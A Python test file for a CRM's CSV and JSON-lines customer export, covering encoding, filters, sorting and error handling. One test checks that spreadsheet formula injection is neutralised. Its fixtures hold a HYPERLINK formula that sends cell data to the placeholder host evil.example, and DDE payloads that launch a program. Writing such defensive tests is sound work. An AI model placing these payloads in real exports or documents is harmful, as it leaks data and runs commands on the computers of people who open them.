"""Export as a file: CSV that Excel opens with Chinese intact (UTF-8 with BOM, a
header row, lists joined with ';') or JSON lines, with the list's filters, search,
sort and field selection."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from typing import Any

import pytest

from ..access.conftest import create
from ..api.conftest import cached_catalogs  # noqa: F401  (a fixture, used by name)
from .sales import csv_rows as rows

pytestmark = pytest.mark.usefixtures("cached_catalogs")


def _customers(crm: Any) -> dict[str, int]:
    vip = create(crm, "tag", name="重点")
    new = create(crm, "tag", name="新客户")
    return {
        "star": create(crm, "customer", name="上海星河贸易有限公司", grade="A",
                       annual_revenue="12000000", city="上海", tags=[vip, new],
                       description='说 "你好", 再见'),
        "river": create(crm, "customer", name="杭州江南丝绸有限公司", grade="A",
                        annual_revenue="30000000", city="杭州"),
        "wall": create(crm, "customer", name="Great Wall Machinery", grade="C"),
        "vip": vip, "new": new,
    }


def test_csv_has_a_bom_a_header_and_every_record(crm) -> None:
    c = _customers(crm)
    response = crm.get("/api/customer/export")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    today = datetime.now(UTC).strftime("%Y-%m-%d")
    assert response.headers["Content-Disposition"] == (
        f"attachment; filename=customer-{today}.csv; filename*=UTF-8''Customers-{today}.csv")
    found = rows(response)
    header = response.data.decode("utf-8-sig").splitlines()[0].split(",")
    assert header[:3] == ["id", "name", "code"]
    assert header[-5:] == ["version", "created_at", "created_by", "updated_at", "updated_by"]
    assert "deleted_at" not in header
    assert sorted(int(r["id"]) for r in found) == sorted([c["star"], c["river"], c["wall"]])
    star = next(r for r in found if int(r["id"]) == c["star"])
    assert star["name"] == "上海星河贸易有限公司"  # round-trips through UTF-8
    assert star["description"] == '说 "你好", 再见'
    assert star["annual_revenue"] == "12000000.00"
    assert star["tags"] == f"{min(c['vip'], c['new'])};{max(c['vip'], c['new'])}"
    assert star["phone"] == ""  # empty, not "None"


def test_json_lines_keep_types_and_lists(crm) -> None:
    c = _customers(crm)
    # descending, an empty revenue comes first (empty sorts as the largest value)
    response = crm.get("/api/customer/export?format=json&sort=-annual_revenue")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "application/x-ndjson; charset=utf-8"
    assert response.headers["Content-Disposition"].endswith(".jsonl")
    records = [json.loads(line) for line in response.data.decode().splitlines()]
    assert [r["id"] for r in records] == [c["wall"], c["river"], c["star"]]
    assert records[2]["tags"] == sorted([c["vip"], c["new"]])
    assert records[2]["name"] == "上海星河贸易有限公司"
    assert records[0]["annual_revenue"] is None


def test_filters_search_sort_and_fields_are_the_lists(crm) -> None:
    c = _customers(crm)
    found = rows(crm.get("/api/customer/export?grade=A&sort=-annual_revenue"
                         "&fields=name,annual_revenue"))
    assert found == [{"name": "杭州江南丝绸有限公司", "annual_revenue": "30000000.00"},
                     {"name": "上海星河贸易有限公司", "annual_revenue": "12000000.00"}]
    assert [r["id"] for r in rows(crm.get("/api/customer/export?q=星河&fields=id"))] == [
        str(c["star"])]
    by_tag = rows(crm.get(f"/api/customer/export?tags={c['new']}&fields=id,name"))
    assert by_tag == [{"id": str(c["star"]), "name": "上海星河贸易有限公司"}]


def test_paging_parameters_are_ignored(crm) -> None:
    _customers(crm)
    assert len(rows(crm.get("/api/customer/export?limit=1&count=true&expand=owner"))) == 3


def test_deleted_records_are_not_exported(crm) -> None:
    c = _customers(crm)
    crm.delete(f"/api/customer/{c['wall']}")
    assert len(rows(crm.get("/api/customer/export"))) == 2


def test_a_bad_query_is_refused_before_anything_is_written(crm, subtests) -> None:
    for url, key in (("/api/customer/export?format=pdf", "format"),
                     ("/api/customer/export?grade__like=A", "grade__like"),
                     ("/api/customer/export?fields=nmae", "fields"),
                     ("/api/custmer/export", "entity")):
        with subtests.test(url):
            response = crm.get(url)
            assert response.status_code in (400, 404)
            assert key in response.json["errors"]


def test_csv_cells_never_start_a_formula(crm) -> None:
    """Text typed in by outsiders cannot become a formula in a spreadsheet: a cell
    starting with =, @, a tab or a carriage return, or with + or - unless it is a
    plain number or phone number, is prefixed with ' (and JSON lines stay as they are)."""
    link = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    typed = {
        link: "'" + link,
        "@SUM(A1:A9)": "'@SUM(A1:A9)",
        "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
        "\t=1+1": "'\t=1+1",
        "\r=1+1": "'\r=1+1",
        "+86 21 5555 0000": "+86 21 5555 0000",
        "-12.50": "-12.50",
        "(021) 5555-0000": "(021) 5555-0000",
        "a = b": "a = b",
    }
    ids = {create(crm, "customer", name=f"客户 {n}", description=text): text
           for n, text in enumerate(typed)}
    phone = create(crm, "customer", name="电话", phone="+86 21 5555 0000")
    found = {int(r["id"]): r for r in rows(crm.get("/api/customer/export"))}
    assert {ids[i]: found[i]["description"] for i in ids} == typed
    # stored as E.164 (the customer's clean: [phone]), exported without a quote
    assert found[phone]["phone"] == "+862155550000"
    lines = crm.get("/api/customer/export?format=json&fields=id,description").data
    exported = {r["id"]: r["description"] for r in map(json.loads, lines.splitlines())}
    assert {i: exported[i] for i in ids} == ids
